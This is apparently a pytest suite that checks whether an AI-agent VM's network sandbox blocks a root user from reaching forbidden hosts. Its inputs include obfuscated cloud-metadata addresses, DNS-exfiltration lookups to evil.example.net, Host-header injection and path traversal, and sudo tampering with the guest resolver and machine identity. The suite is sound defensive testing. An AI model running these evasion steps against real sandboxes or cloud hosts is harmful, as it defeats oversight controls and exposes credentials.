"""Promise 3 from inside a VM that has root: whatever it tries, it talks only to whom the policy names.

The servers of the tests' internet, its neighbour, its metadata service and the host itself could all be reached from
where the supervisor runs (tests/unit/test_internet.py), and see every packet. None of it may come from the VM.
"""

from __future__ import annotations

import json
import os
import re
from collections import Counter
from collections.abc import Iterator

import pytest
from egress_bed import Visitor, visitor
from internet import EVIL, FORBIDDEN, GOOD, METADATA, NEIGHBOUR, OTHER, Internet, internet
from kernel_client import wait_until

from agentvm_kernel.config import Paths

pytestmark = [
    pytest.mark.timeout(600),
    pytest.mark.skipif(os.geteuid() != 0, reason="network namespaces need root"),
]

NETWORK = """
[network]
allow = ["*.example.org"]
deny = ["other.example.org"]
connections_per_second = 1000
"""
# As in the real world: what an answer of somebody's begins with.
REACHED = ("data: HTTP/1.1 200", "data: HTTP/1.0 200", "data: HTTP/1.1 101", "data: caught")
ENDS = ("reset", "eof", "data: HTTP/1.1 400", "data: HTTP/1.1 403", "ConnectionRefusedError", "OSError", "code ")
LOOK_ALIKE = "g\N{CYRILLIC SMALL LETTER O}od.example.org"
SPELLINGS = [
    "169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "0xa9.254.169.254",
    "169.16689662", "169.254.169.254.", "00000251.0376.0251.0376",
]  # fmt: skip


FORGE = """
open("/tmp/forgery.py", "w").write(FORGERY)
found = subprocess.run(["pgrep", "-f", "forwarder.py"], capture_output=True, text=True, check=True)
forwarder = found.stdout.split()[0]
append = f"cat /tmp/forgery.py >> /run/agentvm/lib/agentvm_guest/resolver.py && kill -9 {forwarder}"
subprocess.run(["sudo", "sh", "-c", append], check=True)
"""

# A forwarder that says in each connection's opening, or by its link's epoch, that it is another VM's.
CLAIM = """
import json as _json, pathlib as _pathlib
_honest = _json.dumps
def _claiming(value):
    if "address" not in value:
        return _honest(value)
    _pathlib.Path("/tmp/claimed").touch()
    return _honest({{**value, **{claims}}})
_json.dumps = _claiming
"""
ANOTHER_EPOCH = """
import agentvm_guest.link as _link, pathlib as _pathlib
_rekey = _link.LinkServer.rekey
def _claim_epoch(self, key, epoch):
    _pathlib.Path("/tmp/claimed").touch()
    _rekey(self, key, epoch + 1)
_link.LinkServer.rekey = _claim_epoch
"""
TAKE_NAMES = """
subprocess.run(["sudo", "hostname", {hostname!r}], check=True)
subprocess.run(["sudo", "tee", "/etc/machine-id", "/etc/hostname"], input={machine!r}, text=True, check=True)
"""


@pytest.fixture(scope="module")
def world() -> Iterator[Internet]:
    with internet() as ours:
        yield ours


@pytest.fixture(scope="module")
def paths(world: Internet) -> Iterator[Paths]:
    with world.supervised(NETWORK) as ours:
        yield ours


@pytest.fixture(scope="module")
def leased(paths: Paths) -> Iterator[Visitor]:
    with visitor(paths, ()) as ours:
        yield ours


@pytest.fixture
def vm(leased: Visitor, world: Internet) -> Iterator[Visitor]:
    """The VM, with all records empty; after the test nothing forbidden may have been touched."""
    leased.use()
    world.forget()
    yield leased
    assert world.trespasses == []
    assert not [one for one in world.requests() if "evil" in one.host or one.address == EVIL]


def ended(said: dict[str, str]) -> None:
    """Every attempt has come to an end by itself, and nobody's answer was among them."""
    assert {way: end for way, end in said.items() if not end.startswith(ENDS)} == {}


def test_raw_addresses(vm: Visitor, world: Internet) -> None:
    targets = [METADATA, NEIGHBOUR, "100.64.0.7", "45.55.0.1", "10.99.0.1", "9.9.9.9", GOOD, EVIL, "224.0.0.1",
               "255.255.255.255", "198.18.77.77"]  # fmt: skip
    said = vm.value(f"{{one: talk(one, 80, get('good.example.org')) for one in {targets}}}")
    ended(said)
    refused = [one for one in targets if "Error" not in said[one]]
    assert {METADATA, NEIGHBOUR, GOOD, EVIL} <= set(refused)
    vm.refused(*((one, 80) for one in refused))
    assert world.knocks == []


def test_the_metadata_service_in_all_spellings(vm: Visitor, world: Internet) -> None:
    for spelling in SPELLINGS:
        said = vm.fails("curl", "-sS", "--fail", "--max-time", "60", f"http://{spelling}/latest/meta-data/")
        assert "CAUGHT" not in said
        assert "timed out" not in said
    found = vm.session.connections()
    assert {one.address for one in found if one.name == ""} >= {METADATA}
    # As names, which only a resolver of one's own asks for.
    said = vm.value(f"{{one: through(one.encode(), 80, get(one)) for one in {SPELLINGS}}}")
    ended(said)
    for address in (f"::ffff:{METADATA}", "fd00:ec2::254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1"):
        ended({address: vm.value(f"talk({address!r}, 80, get('x'))")})
    assert world.knocks == []
    assert world.names.asked == []


def test_allowed_names_that_lead_to_forbidden_addresses(vm: Visitor, world: Internet) -> None:
    names = [f"to-{name}.example.org" for name in FORBIDDEN]
    said = vm.value(f"{{one: through(one.encode(), 80, get(one)) for one in {names}}}")
    ended(said)
    vm.refused(*((name, 80) for name in names))
    assert world.knocks == []
    assert {asked.split()[1] for asked in world.names.asked} == set(names)


def test_a_name_that_changes_its_address(vm: Visitor, world: Internet) -> None:
    first, *later = vm.value("[through(b'rebound.example.org', 80, get('rebound.example.org')) for _ in range(4)]")
    assert first.startswith(REACHED)
    ended(dict(enumerate(later)))  # type: ignore[arg-type]
    vm.refused(*[("rebound.example.org", 80)] * 3)
    assert [one.address for one in world.knocks] == [GOOD]
    # One look-up for each connection: what was checked is what is connected to.
    assert len([asked for asked in world.names.asked if asked.startswith("A ")]) == 4


def test_names_that_are_not_what_they_look_like(vm: Visitor, world: Internet) -> None:
    names = {
        "NUL": rb"good.example.org\0.evil.example.net", "NUL inside": b"good\0evil.example.org",
        "a dot in a label": b"good\xffexample.org", "cyrillic": LOOK_ALIKE.encode(),
        "its A-label": LOOK_ALIKE.encode("idna"),
        "overlong label": b"a" * 63 + b"." + b"b" * 63 + b"." + b"c" * 63 + b"." + b"d" * 63 + b".example.org",
        "underscore": b"_good.example.org", "space": b"good .example.org", "slash": b"good/.example.org",
        "at": b"evil.example.net@good.example.org", "star": b"*.example.org", "no label": b"",
        "suffix": b"good.example.org.evil.example.net", "prefix": b"notexample.org", "one label": b"org",
        "two labels": b"a.b.example.org", "apex": b"example.org", "denied": b"other.example.org",
        "local": b"localhost.example.org.localdomain", "number": b"1.2.3.4", "single": b"metadata",
        "hyphens": b"ab--c.example.org",
    }  # fmt: skip
    tries = {way: (name.decode("latin-1"),) for way, name in names.items()}
    said = vm.value(f"{{way: through(name.encode('latin-1'), 80, get('good.example.org')) "
                    f"for way, (name,) in {tries}.items()}}")  # fmt: skip
    ended(said)
    through = [way for way, end in said.items() if not end.startswith("code ")]
    found = [one for one in vm.connections if one.verdict != "allowed"]
    assert sum(one.count for one in found) == len(through), (through, found)
    assert world.knocks == []
    assert world.names.asked == []
    # The same name in another form is the same name.
    for name in ("GOOD.Example.ORG", "good.example.org."):
        assert vm.value(f"through({name!r}.encode(), 80, get({name!r}))").startswith(REACHED)
    assert [one.address for one in world.knocks] == [GOOD, GOOD]


def test_tls_to_another_name(vm: Visitor, world: Internet) -> None:
    said = vm.value("{way: through(b'good.example.org', 443, *hello, finish=way == 'cut off') "
                    "for way, hello in hellos('good.example.org', 'evil.example.net').items()}")  # fmt: skip
    ended({way: end if not end.startswith("data: \x15") else "reset" for way, end in said.items()})
    vm.refused(*[("good.example.org", 443)] * len(said))
    assert world.knocks == []
    assert world.web.names == []


def test_slow_and_endless_greetings(vm: Visitor, world: Internet) -> None:
    ended({"endless": vm.value("endless_hello()"), "slow": vm.value("slow_hello()")})
    vm.refused(*[("good.example.org", 443)] * 2)
    assert world.knocks == []


def test_http_for_another_host(vm: Visitor, world: Internet) -> None:
    said = vm.value("{way: through(b'raw.example.org', 80, request, finish=True) "
                    "for way, request in requests('raw.example.org', 'evil.example.net').items()}")  # fmt: skip
    raw = world.raw.received
    assert not re.search(rb"(?m)^[^:]*evil|^host *:(?! raw.example.org\r$)", raw, re.IGNORECASE)
    assert b"CONNECT" not in raw
    assert b"content-length" not in raw.lower() or b"transfer-encoding" not in raw.lower()
    # What was let through was written anew, and is one request for the right host.
    reached = [way for way, end in said.items() if end.startswith(REACHED)]
    assert raw.count(b"HTTP/1.1\r\n") == raw.lower().count(b"\r\nhost: raw.example.org\r\n") == raw.count(b"\r\n\r\n")
    ended({way: end for way, end in said.items() if way not in reached})
    refusals = [one for one in vm.connections if one.verdict == "refused"]
    assert sum(one.count for one in refusals) == len(said) - len(reached), (said, refusals)
    print("let through, made harmless:", reached)


def test_a_second_request_over_a_kept_connection(vm: Visitor, world: Internet) -> None:
    good = "get('raw.example.org', close=False)"
    seconds = {
        "another host": "get('evil.example.net')", "CONNECT": "get('evil.example.net:443', 'x:1', method='CONNECT')",
        "tls": "client_hello('evil.example.net')",
    }  # fmt: skip
    for second in seconds.values():
        first, then = vm.value(f"kept('raw.example.org', {good}, {second})")
        assert first.startswith(REACHED)
        assert not then.startswith(REACHED)
        assert then != "hangs"
    assert world.raw.received.count(b"\r\n\r\n") == len(seconds)
    assert b"evil" not in world.raw.received
    assert sum(one.count for one in vm.connections if one.verdict == "refused") == len(seconds)


def test_a_refusal_says_why_and_how_to_allow(vm: Visitor) -> None:
    said = vm.value("through(b'evil.example.net', 80, get('evil.example.net'))")
    assert said.startswith("data: HTTP/1.1 403")
    assert "evil.example.net is not allowed" in said
    assert "%net allow evil.example.net" in said
    vm.refused(("evil.example.net", 80))


def test_redirects_to_forbidden_hosts(vm: Visitor, world: Internet) -> None:
    for target in (f"http://{METADATA}/", "http://evil.example.net/", "http://to-private.example.org/"):
        said = vm.fails("curl", "-sS", "-L", "--fail", "--max-time", "60", f"http://good.example.org/to?{target}")
        assert "CAUGHT" not in said
        assert "timed out" not in said
    vm.refused((METADATA, 80), ("evil.example.net", 80), ("to-private.example.org", 80))
    assert [one.address for one in world.knocks] == [GOOD] * 3


def test_names_carry_nothing_out(vm: Visitor, world: Internet) -> None:
    said = vm.value(
        "{f'{kind} {i}': look_up(b'%d-secret.evil.example.net' % i, kind) for kind in (1, 16, 28, 15, 5, 255, 10, 65) "
        "for i in range(20)}"
    )
    assert all(end == "code 0" or end.startswith("198.1") for end in said.values())
    # Allowed names are not looked up either, as long as nobody connects.
    vm.value("[look_up(b'secret-%d.example.org' % i) for i in range(50)]")
    for server, tcp in (("9.9.9.9", False), ("9.9.9.9", True), ("45.55.0.53", False), ("45.55.0.53", True)):
        end = vm.do(f"try: print(ask(question(b'evil.example.net'), {server!r}, tcp={tcp}))\n"
                    "except (OSError, IndexError) as error: print(repr(error))")  # fmt: skip
        assert "Error" in end or end.strip() == "b''", end
        assert "Timeout" not in end
    assert world.knocks == []
    assert world.names.asked == []


def test_other_protocols_end_at_once(vm: Visitor, world: Internet) -> None:
    for target in ("9.9.9.9", METADATA, NEIGHBOUR):
        said = vm.as_root(f"raw_packets({target!r})")
        # A raw SYN has nobody here who would hear of its refusal.
        assert {way for way, end in said.items() if "Error" not in end} <= {"raw tcp"}
    assert vm.as_root("frames()") != "0 bytes"
    assert world.knocks == []


def test_ports_that_no_rule_names(vm: Visitor, world: Internet) -> None:
    ended(
        vm.value("{port: through(b'good.example.org', port, get('good.example.org:8080')) for port in (8080, 25, 0)}")
    )
    vm.refused(*(("good.example.org", port) for port in (8080, 25, 0)))
    assert world.knocks == []


def test_a_forged_forwarder_gets_no_further(vm: Visitor, world: Internet) -> None:
    forged = {
        "203.0.113.1": "evil.example.net", "203.0.113.2": METADATA, "203.0.113.3": "2852039166",
        "203.0.113.4": "good.example.org\0.evil.example.net", "203.0.113.5": "", "203.0.113.6": "127.0.0.1",
        "203.0.113.7": "good.example.org@evil.example.net", "203.0.113.8": f"[::ffff:{METADATA}]",
        "203.0.113.9": "localhost", "203.0.113.10": LOOK_ALIKE, "203.0.113.11": "x" * 1000,
        "203.0.113.12": "http://good.example.org/", "203.0.113.13": "good.example.org\r\nHost: evil",
        "203.0.113.14": "other.example.org", "203.0.113.15": "../../etc/passwd",
        "203.0.113.16": "to-private.example.org",
    }  # fmt: skip
    vm.do(f"FORGED.write_text({json.dumps(json.dumps({**forged, '203.0.113.99': 'good.example.org'}))})")
    vm.do(FORGE)
    vm.use()
    # The forgery works: an address that no resolver gave out leads where it says.
    assert vm.value("talk('203.0.113.99', 80, get('good.example.org'))").startswith(REACHED)
    world.forget()
    ended(vm.value(f"{{one: talk(one, 80, get('good.example.org')) for one in {list(forged)}}}"))
    refusals = [one for one in vm.connections if one.verdict == "refused"]
    assert Counter(one.port for one in refusals for _ in range(one.count)) == {80: len(forged)}
    assert all("\n" not in one.name and "\0" not in one.name and len(one.name) <= 300 for one in refusals)
    assert world.knocks == []


def test_another_vms_identity(paths: Paths, world: Internet) -> None:
    ask = "through(b'evil.example.net', 80, get('evil.example.net'))"
    with visitor(paths, ()) as attacker, visitor(paths, ("evil.example.net",)) as victim:
        world.forget()
        mine = victim.session.connections()[0]
        hostname, machine = victim.value("(socket.gethostname(), open('/etc/machine-id').read())")
        attacker.do(TAKE_NAMES.format(hostname=hostname, machine=machine))
        assert attacker.value(ask).startswith("data: HTTP/1.1 403")
        (refusal,) = attacker.refused(("evil.example.net", 80))
        assert (refusal.vm, refusal.session) != (mine.vm, mine.session)
        claims = repr({"vm": mine.vm, "session": mine.session})
        for forgery in (CLAIM.format(claims=claims), ANOTHER_EPOCH):
            attacker.do(f"FORGERY = {forgery!r}\n{FORGE}")
            wait_until(lambda: attacker.value(f"({ask}, os.path.exists('/tmp/claimed'))")[1], "the forgery")
            ended({"claims": attacker.value(ask)})
            attacker.do("subprocess.run(['sudo', 'rm', '/tmp/claimed'], check=True)")
        assert world.knocks == []
        assert {one.name for one in victim.session.connections()} == {"good.example.org"}
        # Who has the right to it has it still.
        assert victim.value(ask).startswith(REACHED)


def test_ten_thousand_connections(vm: Visitor, paths: Paths, world: Internet) -> None:
    with visitor(paths, ()) as other:
        script = "hoard(look_up(b'good.example.org'), 80, 10000)"
        limit = "import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000)); "
        code = f"import sys; sys.path.insert(0, '/tmp'); from egress_attacker import *; {limit}show({script})"
        vm.do(f"hoarder = subprocess.Popen(['sudo', 'python3', '-c', {code!r}], stdout=subprocess.PIPE, text=True)")
        # A well-behaved VM has its connections meanwhile.
        for _ in range(5):
            assert other.value("through(b'good.example.org', 80, get('good.example.org'))").startswith(REACHED)
        said = json.loads(vm.do("print(hoarder.communicate()[0])").rpartition("\n@")[2])
    print(said)
    assert "hangs" not in said
    assert sum(said.values()) - said["ended by the other side"] == 10000
    # And when it has let go of them, so has it.
    vm.use()
    assert OTHER not in {one.address for one in world.knocks}
    assert len(vm.session.connections()) < 10000
